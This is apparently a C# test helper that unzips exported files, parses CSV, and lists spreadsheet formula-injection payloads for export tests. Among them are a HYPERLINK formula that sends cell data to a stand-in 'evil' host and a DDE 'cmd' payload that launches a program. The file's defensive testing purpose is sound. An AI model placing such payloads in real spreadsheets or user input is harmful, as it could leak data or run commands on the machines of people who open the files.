using System.IO.Compression;
using System.Text;

namespace PotLock.Services.Tests.Exports;

/// <summary>Reads what was exported.</summary>
internal static class ExportFiles
{
    /// <summary>What a person may have typed that a spreadsheet would work out, send somewhere or run.</summary>
    public static readonly string[] Payloads =
    [
        "=1+1", "=HYPERLINK(\"//evil\"&A1)", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "\u00A0@SUM(A1)", "-1\",=1+1,\"",
    ];

    /// <summary>The files of a zip, by name, as text.</summary>
    public static Dictionary<string, string> Unzip(byte[] zip)
    {
        using var archive = new ZipArchive(new MemoryStream(zip), ZipArchiveMode.Read);
        return archive.Entries.ToDictionary(entry => entry.FullName, entry =>
        {
            using var reader = new StreamReader(entry.Open(), new UTF8Encoding(false), detectEncodingFromByteOrderMarks: false);
            return reader.ReadToEnd();
        });
    }

    /// <summary>The lines of comma-separated values, the mark at the beginning cut off.</summary>
    public static List<List<string>> ReadCsv(string text)
    {
        Assert.StartsWith("\uFEFF", text, StringComparison.Ordinal);
        List<List<string>> lines = [];
        List<string> line = [];
        var cell = new StringBuilder();
        var isQuoted = false;
        for (var i = 1; i < text.Length; i++)
        {
            if (isQuoted)
            {
                isQuoted = text[i] != '"' || (i + 1 < text.Length && text[i + 1] == '"' && ++i > 0);
                cell.Append(isQuoted ? text[i].ToString() : "");
            }
            else if (text[i] == '"')
            {
                isQuoted = true;
            }
            else if (text[i] is ',' or '\r')
            {
                line.Add(cell.ToString());
                cell.Clear();
                if (text[i] == '\r')
                {
                    Assert.Equal('\n', text[++i]);
                    lines.Add(line);
                    line = [];
                }
            }
            else
            {
                cell.Append(text[i]);
            }
        }

        Assert.Empty(line);
        Assert.All(lines, one => Assert.Equal(lines[0].Count, one.Count));
        return lines;
    }
}
